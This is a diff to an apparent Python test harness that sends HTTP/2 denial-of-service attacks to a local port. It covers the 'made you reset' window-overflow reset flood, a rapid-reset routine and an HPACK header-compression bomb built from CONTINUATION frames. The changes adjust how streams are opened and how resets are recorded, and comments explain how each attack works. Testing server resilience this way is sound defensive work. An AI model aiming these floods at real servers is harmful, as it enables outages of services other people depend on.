@@ -37,6 +37,7 @@ class peer:
         self.closed_at = None
         self.status = {}
         self.resets = {}
+        self.goaway_text = b''
         self.send(PREFACE + frame(SETTINGS, 0, 0))
         self.reader = threading.Thread(target=self.read, daemon=True)
         self.reader.start()
@@ -120,13 +121,14 @@ def rapid_reset(port, n):
 def made_you_reset(port, n):
     # A WINDOW_UPDATE that takes a stream's window past 2^31-1 is the client's error on that stream (RFC 9113 §6.9.1):
     # the server resets the stream itself, and its handler would go on unless the server counts these resets too.
-    # In batches of 50 (the RSTs awaited before the next), as an attacker keeps under the 100 concurrent streams.
+    # In batches of 50 (the RSTs awaited before the next), as an attacker keeps under the 100 concurrent streams; each
+    # stream left open (no END_STREAM), so that it is there when its WINDOW_UPDATE comes, whatever the route.
     p = peer(port)
     sent = 0
     stream = 1
     while sent < n and not p.cut():
         batch = [stream + 2 * i for i in range(50)]
-        if not p.send(b''.join(p.headers(s, '/slow?ms=2000') + frame(WINDOW_UPDATE, 0, s, struct.pack('>I', 0x7fffffff))
+        if not p.send(b''.join(p.headers(s, '/slow?ms=2000', end=False) + frame(WINDOW_UPDATE, 0, s, struct.pack('>I', 0x7fffffff))
                                for s in batch)):
             break
         p.wait(lambda: batch[-1] in p.resets or p.cut(), 5)
@@ -160,14 +162,15 @@ def hpack_bomb(port):
         frames += frame(CONTINUATION, END_HEADERS if i == 7 else 0, 1, b'\xbe' * 16384)
     started = time.monotonic()
     p.send(frames)
-    p.wait(lambda: 1 in p.status or p.cut(), 10)
+    p.wait(lambda: 1 in p.status or 1 in p.resets or p.cut(), 10)
     # The client's encoder never saw the literal: the next block is encoded against a table of its own, so a new
     # connection carries the ordinary request.
     q = peer(port)
     q.send(q.headers(1, '/hello'))
     q.wait(lambda: 1 in q.status or q.cut(), 5)
     refs_total = len(refs) + 8 * 16384
-    print('hpack-bomb refs', refs_total, 'status', p.status.get(1), 'in', round(time.monotonic() - started, 1),
+    print('hpack-bomb refs', refs_total, 'status', p.status.get(1), 'reset', p.resets.get(1), 'in',
+          round(time.monotonic() - started, 1),
           'then', q.status.get(1))
 
 
